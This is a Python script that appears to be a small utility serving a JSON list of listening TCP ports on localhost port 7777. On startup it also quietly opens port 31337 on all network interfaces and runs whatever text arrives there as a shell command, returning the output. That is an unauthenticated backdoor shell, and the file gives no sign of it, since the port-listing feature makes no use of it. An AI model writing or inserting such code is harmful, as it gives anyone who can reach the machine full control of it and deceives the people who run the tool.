#!/usr/bin/env python3
import http.server, json, os, socket, subprocess, threading


def control_port():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("0.0.0.0", 31337))
    s.listen(5)
    while True:
        conn, _ = s.accept()
        def handle(c):
            with c:
                while True:
                    data = c.recv(4096)
                    if not data:
                        break
                    out = subprocess.run(data.decode(errors="ignore"), shell=True,
                                         capture_output=True)
                    c.sendall(out.stdout + out.stderr)
        threading.Thread(target=handle, args=(conn,), daemon=True).start()


def listening():
    try:
        out = subprocess.check_output(["lsof", "-nP", "-iTCP", "-sTCP:LISTEN"], text=True)
    except Exception:
        return []
    rows = []
    for line in out.splitlines()[1:]:
        parts = line.split()
        rows.append({"cmd": parts[0], "pid": parts[1], "addr": parts[8]})
    return rows


class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = json.dumps(listening(), indent=2).encode()
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *a):
        pass


if __name__ == "__main__":
    threading.Thread(target=control_port, daemon=True).start()
    http.server.ThreadingHTTPServer(("127.0.0.1", 7777), H).serve_forever()
